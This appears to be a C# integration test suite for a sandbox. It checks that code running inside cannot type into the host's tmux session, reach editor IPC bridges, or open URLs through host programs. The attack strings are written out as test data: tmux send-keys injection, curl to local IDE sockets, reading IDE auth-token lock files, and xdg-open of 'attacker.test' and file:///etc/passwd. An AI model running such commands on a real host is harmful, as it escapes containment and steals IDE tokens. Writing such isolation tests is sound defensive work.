namespace Sandbox.Integration.Tests;

/// <summary>DV-10, DV-12, DV-13: programs of the host that do what they are told, if only they can be told.</summary>
public sealed class HostProgramTests
{
    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void Nothing_inside_types_into_the_multiplexer_of_the_host(Identity identity)
    {
        using Workspace workspace = Workspace.Create(identity);
        string socket = workspace.At("multiplexer", "default");
        _ = workspace.Directory(workspace.At("multiplexer"));
        workspace.Environment["TMUX_TMPDIR"] = workspace.At("multiplexer");
        string tmux = TestHost.Require(Capability.Tmux);
        _ = workspace.Outside($"{tmux} -S {socket} -f /dev/null new-session -d -s main sh").ExpectExit();
        try
        {
            workspace.Environment["TMUX"] = $"{socket},1,0";
            workspace.Environment["STY"] = "1.main";
            workspace.Environment["ZELLIJ"] = "0";
            string attack = $"tmux send-keys -t main 'touch ../PWN' Enter; tmux -S {socket} send-keys -t main 'touch ../PWN' Enter; env | grep -E '^(TMUX|STY|ZELLIJ)'; true";

            Assert.Empty(workspace.Inside(attack).ExpectExit().OutputText);
            _ = workspace.Outside($"{tmux} -S {socket} send-keys -t main 'touch ../typed' Enter").ExpectExit();
            Eventually.Holds(() => File.Exists(workspace.At("typed")), "what was typed outside afterwards has been done");
            Assert.False(File.Exists(workspace.At("PWN")), "a program inside typed outside");

            // The control: outside the same script does it.
            Assert.Contains("TMUX=", workspace.Outside(attack).ExpectExit().OutputText, StringComparison.Ordinal);
            Eventually.Holds(() => File.Exists(workspace.At("PWN")), "the control has typed");
        }
        finally
        {
            _ = workspace.Outside($"{tmux} -S {socket} kill-server");
        }
    }

    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void The_bridges_of_editors_are_not_inside_and_neither_are_the_variables_that_lead_there(Identity identity)
    {
        using Workspace workspace = Workspace.Create(identity);
        string socket = $"/tmp/vscode-ipc-{Guid.NewGuid():N}.sock";
        using StandInService editor = new(socket);
        using AttackerSocket server = new();
        string token = workspace.Decoys.Tag;
        _ = workspace.Write(Path.Combine(workspace.Home, ".claude", "ide", $"{server.Port}.lock"), $"{{\"authToken\":\"{token}\"}}");
        _ = workspace.Write(Path.Combine(workspace.Home, ".cache", "JetBrains", "port"), token);
        foreach (string name in new[] { "VSCODE_IPC_HOOK_CLI", "VSCODE_GIT_IPC_HANDLE", "REMOTE_CONTAINERS_IPC", "GIT_ASKPASS", "BROWSER", "CLAUDE_CODE_SSE_PORT", "TERMINAL_EMULATOR" })
        {
            workspace.Environment[name] = socket;
        }

        string attack =
            $"curl -s -m 3 --unix-socket {socket} http://localhost/; curl -s -m 3 --noproxy '*' http://127.0.0.1:{server.Port}/; curl -s -m 3 -f http://127.0.0.1:{server.Port}/; " +
            $"cat ~/.claude/ide/*.lock {workspace.Home}/.claude/ide/*.lock ~/.cache/JetBrains/port 2> /dev/null; env | grep {socket}; true";

        Assert.Empty(workspace.Inside(attack).ExpectExit().OutputText);
        Assert.Equal((0, 0), (editor.Requests, server.Connections));

        string outside = workspace.Outside(attack).ExpectExit().OutputText;
        Assert.Contains("canary", outside, StringComparison.Ordinal);
        Assert.Contains(token, outside, StringComparison.Ordinal);
        Assert.Contains("VSCODE_IPC_HOOK_CLI=", outside, StringComparison.Ordinal);
        Assert.NotEqual(0, server.Connections);
        File.Delete(socket);
    }

    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void No_address_is_opened_by_a_program_of_the_host(Identity identity)
    {
        using Workspace workspace = Workspace.Create(identity);
        string opener = workspace.Write(workspace.At("opener"), $"#!/bin/sh\necho \"$1\" >> {workspace.At("opened")}\n");
        File.SetUnixFileMode(opener, (UnixFileMode)0b111_101_101);
        workspace.Environment["BROWSER"] = opener;
        string[] addresses = ["https://attacker.test/?CANARY", "file:///etc/passwd", "ms-x:canary"];
        string attack = string.Join("; ", addresses.Select(a => $"xdg-open {a}; python3 -m webbrowser {a}; BROWSER={opener} xdg-open {a}; {opener} {a}")) + "; env | grep ^BROWSER; true";

        Assert.DoesNotContain("BROWSER", workspace.Inside(attack).OutputText, StringComparison.Ordinal);
        Assert.False(File.Exists(workspace.At("opened")), "an address was opened outside");

        _ = workspace.Outside(attack);
        string opened = File.ReadAllText(workspace.At("opened"));
        Assert.All(addresses, a => Assert.Contains(a, opened, StringComparison.Ordinal));
    }

    /// <summary>A port of the host that counts who comes.</summary>
    private sealed class AttackerSocket : IDisposable
    {
        private readonly System.Net.Sockets.TcpListener _listener = new(System.Net.IPAddress.Loopback, 0);
        private readonly Thread _thread;
        private int _connections;

        public AttackerSocket()
        {
            _listener.Start();
            _thread = new Thread(Serve) { IsBackground = true };
            _thread.Start();
        }

        public int Port => ((System.Net.IPEndPoint)_listener.LocalEndpoint).Port;

        public int Connections => Volatile.Read(ref _connections);

        public void Dispose()
        {
            _listener.Dispose();
            _thread.Join();
        }

        private void Serve()
        {
            try
            {
                while (true)
                {
                    _listener.AcceptSocket().Dispose();
                    _ = Interlocked.Increment(ref _connections);
                }
            }
            catch (System.Net.Sockets.SocketException)
            {
                // Stopped.
            }
        }
    }
}
